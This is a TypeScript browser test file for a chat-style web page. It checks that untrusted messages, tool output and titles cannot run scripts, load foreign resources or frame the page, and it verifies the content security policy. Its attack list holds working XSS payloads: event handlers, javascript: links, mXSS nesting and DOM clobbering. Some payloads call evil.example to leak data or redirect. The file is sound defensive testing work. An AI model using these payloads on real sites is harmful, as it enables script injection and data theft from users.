// biome-ignore-all lint/performance/useDomNodeTextContent: the test checks the text that a user sees.
import { describe, expect, test } from 'vitest';
import { rig } from './rig.ts';
import { say, scene, stands, visit, withBrowser } from './visitor.ts';

withBrowser();

/** Attacks that set `globalThis.owned` if any part of them is executed, followed or loaded. */
const attacks = [
  '<script>globalThis.owned = 1</script>',
  '<img src=x onerror="globalThis.owned = 1">',
  '<svg onload="globalThis.owned = 1"><script>globalThis.owned = 1</script></svg>',
  '<svg><animate onbegin="globalThis.owned = 1" attributeName="x"></svg>',
  '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
  '<a href="javascript:globalThis.owned = 1">click</a>',
  '[click](javascript:globalThis.owned=1)',
  '[click](  JaVaScRiPt&colon;globalThis.owned=1 "title")',
  '[click](data:text/html,<script>opener.owned=1</script>)',
  '![x](https://evil.example/pixel.png?secret=1)',
  '![x](javascript:globalThis.owned=1)',
  '![x" onerror="globalThis.owned=1](x)',
  '<style>* { background: url(https://evil.example/style) }</style>',
  '<math><mtext><table><mglyph><style><img src onerror="globalThis.owned=1"></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><button formaction="javascript:globalThis.owned=1">go</button></form>',
  '<details open ontoggle="globalThis.owned=1">x</details>',
  '```js" onmouseover="globalThis.owned=1\ncode\n```',
  '`</code><img src=x onerror="globalThis.owned=1">`',
  '| a |\n|---|\n| <img src=x onerror="globalThis.owned=1"> |',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a id="page" name="body"><input name="attributes"><form name="querySelector">',
];

describe('the page with untrusted text [P21]', () => {
  test.each(attacks)('executes and loads nothing of %s', async (attack) => {
    const { page, context } = await scene();
    const elsewhere: string[] = [];
    context.on('request', (request) => {
      if (!/^(http:\/\/127\.0\.0\.1|data:)/.test(request.url())) elsewhere.push(request.url());
    });
    const { origin } = new URL(page.url());
    await say(page, `raw ${attack}`);
    await stands(page, 'complete');
    // Only links with a target leave the page, and only if the user follows them on purpose.
    for (const place of await page.locator('.prose, .prose a:not([target])').all()) await place.click();
    await page.locator('.item.answer').hover();
    await page.waitForTimeout(100);
    const found = await page.evaluate(() => ({
      owned: 'owned' in globalThis,
      handlers: [...document.querySelectorAll('.item *')].flatMap((element) =>
        element
          .getAttributeNames()
          .filter((name) => name.startsWith('on') || name === 'style' || name === 'srcdoc'),
      ),
      strange: [...document.querySelectorAll('.prose *')]
        .map((element) => element.tagName)
        .filter((tag) => /SCRIPT|IMG|SVG|IFRAME|STYLE|FORM|MATH|BASE|META|OBJECT|INPUT/i.test(tag)),
      links: [...document.querySelectorAll<HTMLAnchorElement>('.prose a')].map(({ protocol, rel }) => [
        protocol,
        rel,
      ]),
    }));
    expect(found).toMatchObject({ owned: false, handlers: [], strange: [] });
    for (const link of found.links)
      expect(link).toEqual([expect.stringMatching(/^(https?|mailto):$/), 'noopener noreferrer']);
    expect(elsewhere).toEqual([]);
    expect(new URL(page.url()).origin).toBe(origin);
  });

  test('escapes user messages, tool output, titles and events', async () => {
    const { page } = await scene();
    const attack = '<img src=x onerror="globalThis.owned=1"><script>globalThis.owned=1</script>';
    await say(page, `run ${attack}`);
    await stands(page, 'complete');
    await page.locator('.call-line').click();
    await page.locator('.panel-toggle').click();
    await page.getByRole('tab', { name: 'events' }).click();
    await page.locator('.event-line').first().click();
    expect(await page.locator('.head h1').innerText()).toContain('<img');
    expect(await page.locator('.call .subject').innerText()).toContain('<img');
    expect(await page.locator('.app img, .app script').count()).toBe(0);
    expect(await page.evaluate(() => 'owned' in globalThis)).toBe(false);
  });

  test('blocks scripts, foreign requests and raw HTML by its policy, too', async () => {
    const { page } = await scene();
    const tried = await page.evaluate(async () => {
      const results: Record<string, string> = {};
      const attempt = (name: string, act: () => void) => {
        try {
          act();
          results[name] = 'done';
        } catch (error) {
          results[name] = (error as Error).name;
        }
      };
      attempt('innerHTML', () => {
        document.createElement('div').innerHTML = '<b>x</b>';
      });
      attempt('script', () => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.owned = 1';
        document.body.append(script);
      });
      attempt('handler', () => document.body.setAttribute('onclick', 'globalThis.owned = 1'));
      document.body.click();
      results['fetch'] = await fetch('https://evil.example/').then(
        () => 'done',
        () => 'refused',
      );
      return { results, owned: 'owned' in globalThis, hasTypes: 'trustedTypes' in globalThis };
    });
    expect(tried.owned).toBe(false);
    // A browser without Trusted Types inserts raw HTML, but the policy still keeps its scripts from running.
    const insertion = tried.hasTypes ? 'TypeError' : 'done';
    expect(tried.results).toMatchObject({ innerHTML: insertion, script: insertion, fetch: 'refused' });
  });

  test('is served with a policy without exceptions, and cannot be framed', async () => {
    const one = await rig();
    try {
      const headers = (await fetch(one.server.url)).headers;
      const policy = headers.get('content-security-policy') ?? '';
      expect(policy).not.toMatch(/unsafe|\*|https?:/);
      expect(policy).toContain("script-src 'self'");
      expect(policy).toContain("frame-ancestors 'none'");
      const { page } = await visit(one.server.url);
      const outside = await page
        .locator('script, link, img')
        .evaluateAll((elements) =>
          elements
            .map((element) => element.getAttribute('src') ?? element.getAttribute('href') ?? '')
            .filter((from) => !/^(\/assets\/|data:)/.test(from)),
        );
      expect(outside).toEqual([]);
    } finally {
      await one.close();
    }
  });
});
